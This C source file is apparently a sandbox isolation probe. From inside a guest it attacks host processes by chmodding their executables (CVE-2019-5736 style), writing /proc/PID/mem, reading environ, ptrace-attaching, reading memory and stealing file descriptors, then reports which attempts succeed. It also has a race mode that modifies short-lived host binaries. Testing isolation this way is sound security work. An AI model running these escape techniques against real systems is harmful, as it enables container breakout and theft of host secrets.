// Reaches for the processes of a guest that are not the guest's: its first one, and whatever comes from outside.
//
//     reach all          tries everything on every process that runs a file which the guest does not have
//     reach race SECONDS lies in wait for such processes, since they exist for a moment only
//
// Prints `PID COMM ATTACK=outcome`. Changes the program's mode to one that it can keep.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static char path[128];

static const char *of(int pid, const char *name) {
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    return path;
}

static const char *said(long result) { return result >= 0 ? "done" : strerrorname_np(errno); }

// Whether the process runs a file that is not in the guest's own tree. Unreadable is as good as not ours.
static int is_foreign(int pid) {
    char exe[512];
    ssize_t length = readlink(of(pid, "exe"), exe, sizeof exe - 1);
    if (length < 0) return errno == EACCES || errno == EPERM;
    exe[length] = 0;
    return strncmp(exe, "/usr/", 5) != 0 && strncmp(exe, "/tmp/", 5) != 0 ? 1 : strstr(exe, "/hamlet") != NULL;
}

static long read_some(const char *file) {
    char bytes[64];
    int descriptor = open(file, O_RDONLY | O_CLOEXEC);
    if (descriptor < 0) return -1;
    long length = read(descriptor, bytes, sizeof bytes);
    close(descriptor);
    // Nothing read is nothing learnt.
    if (length == 0) errno = ENODATA;
    return length > 0 ? length : -1;
}

static long list(const char *directory) {
    DIR *opened = opendir(directory);
    if (!opened) return -1;
    errno = ENODATA;
    long found = -1;
    for (struct dirent *entry; (entry = readdir(opened));)
        if (entry->d_name[0] != '.') found = 0;
    closedir(opened);
    return found;
}

static long open_only(const char *file, int flags) {
    int descriptor = open(file, flags | O_CLOEXEC);
    if (descriptor >= 0) close(descriptor);
    return descriptor;
}

// Holds the program's file itself, as CVE-2019-5736 did.
static long change_program(int pid) {
    int descriptor = open(of(pid, "exe"), O_RDONLY | O_CLOEXEC);
    if (descriptor < 0) return -1;
    long result = fchmod(descriptor, 0711);
    close(descriptor);
    return result;
}

static long traced(int pid, int request) {
    pid_t child = fork();
    if (child == 0) _exit(ptrace(request, pid, 0, 0) < 0 ? errno : 0);
    int status = 0;
    waitpid(child, &status, 0);
    errno = WEXITSTATUS(status);
    if (request == PTRACE_ATTACH && !errno) kill(pid, SIGCONT);
    return errno ? -1 : 0;
}

static long read_memory(int pid) {
    char line[256] = "", bytes[16];
    FILE *maps = fopen(of(pid, "maps"), "re");
    // Without its map, where programs without one usually lie.
    unsigned long start = 0x400000;
    if (maps && fgets(line, sizeof line, maps)) start = strtoul(line, NULL, 16);
    if (maps) fclose(maps);
    struct iovec ours = {bytes, sizeof bytes}, theirs = {(void *)start, sizeof bytes};
    return process_vm_readv(pid, &ours, 1, &theirs, 1, 0);
}

static long take_descriptor(int pid) {
    int handle = syscall(SYS_pidfd_open, pid, 0);
    if (handle < 0) return -1;
    long taken = -1;
    for (int number = 0; number < 16 && taken < 0; number++) taken = syscall(SYS_pidfd_getfd, handle, number, 0);
    close(handle);
    if (taken >= 0) close(taken);
    return taken;
}

// Numbers alone, which the directory shows to whoever has the process's ids, say nothing.
static long follow_descriptor(int pid) {
    char name[32], target[256];
    long found = -1;
    for (int number = 0; number < 16 && found < 0; number++) {
        snprintf(name, sizeof name, "fd/%d", number);
        found = readlink(of(pid, name), target, sizeof target);
    }
    return found;
}

static void tell(int pid, const char *comm, const char *attack, long result) {
    printf("%d %s %s=%s\n", pid, comm, attack, said(result));
    fflush(stdout);
}

static void reach(int pid) {
    char comm[32] = "?";
    int descriptor = open(of(pid, "comm"), O_RDONLY | O_CLOEXEC);
    if (descriptor >= 0) {
        ssize_t length = read(descriptor, comm, sizeof comm - 1);
        comm[length > 0 ? length - 1 : 0] = 0;
        close(descriptor);
    }
    for (char *at = comm; *at; at++)
        if (*at == ' ' || *at == '=') *at = '_';
    tell(pid, comm, "chmod-exe", change_program(pid));
    tell(pid, comm, "read-exe", read_some(of(pid, "exe")));
    tell(pid, comm, "write-mem", open_only(of(pid, "mem"), O_RDWR));
    tell(pid, comm, "read-maps", read_some(of(pid, "maps")));
    tell(pid, comm, "read-environ", read_some(of(pid, "environ")));
    tell(pid, comm, "follow-fd", follow_descriptor(pid));
    tell(pid, comm, "list-root", list(of(pid, "root/")));
    tell(pid, comm, "list-cwd", list(of(pid, "cwd/")));
    tell(pid, comm, "seize", traced(pid, PTRACE_SEIZE));
    tell(pid, comm, "attach", traced(pid, PTRACE_ATTACH));
    tell(pid, comm, "read-memory", read_memory(pid));
    tell(pid, comm, "take-descriptor", take_descriptor(pid));
}

// Counts what was open for a moment.
static void lie_in_wait(double seconds) {
    struct timespec now, begin;
    clock_gettime(CLOCK_MONOTONIC, &begin);
    long seen = 0, opened = 0, changed = 0, memory = 0;
    int last = 0;
    do {
        DIR *processes = opendir("/proc");
        int highest = last;
        for (struct dirent *entry; processes && (entry = readdir(processes));) {
            int pid = atoi(entry->d_name);
            if (pid <= last || pid == getpid()) continue;
            if (pid > highest) highest = pid;
            for (int again = 0; again < 200 && is_foreign(pid); again++) {
                seen += again == 0;
                int descriptor = open(of(pid, "exe"), O_RDONLY | O_CLOEXEC);
                if (descriptor >= 0) {
                    // Between looking and opening it may have become a program of the guest's, which is the guest's to change.
                    struct stat file, guest;
                    int own = fstat(descriptor, &file) == 0 && stat("/usr/bin/sleep", &guest) == 0 && file.st_dev == guest.st_dev;
                    if (!own) {
                        opened++;
                        changed += fchmod(descriptor, 0711) == 0;
                    }
                    close(descriptor);
                }
                memory += is_foreign(pid) && open_only(of(pid, "mem"), O_RDWR) >= 0 && is_foreign(pid);
            }
        }
        if (processes) closedir(processes);
        last = highest;
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while (now.tv_sec - begin.tv_sec + (now.tv_nsec - begin.tv_nsec) / 1e9 < seconds);
    printf("seen=%ld\nopened=%ld\nchanged=%ld\nmemory=%ld\n", seen, opened, changed, memory);
}

int main(int count, char **words) {
    if (count == 3 && strcmp(words[1], "race") == 0) {
        lie_in_wait(atof(words[2]));
        return 0;
    }
    DIR *processes = opendir("/proc");
    for (struct dirent *entry; processes && (entry = readdir(processes));) {
        int pid = atoi(entry->d_name);
        if (pid > 0 && pid != getpid() && is_foreign(pid)) reach(pid);
    }
    return 0;
}
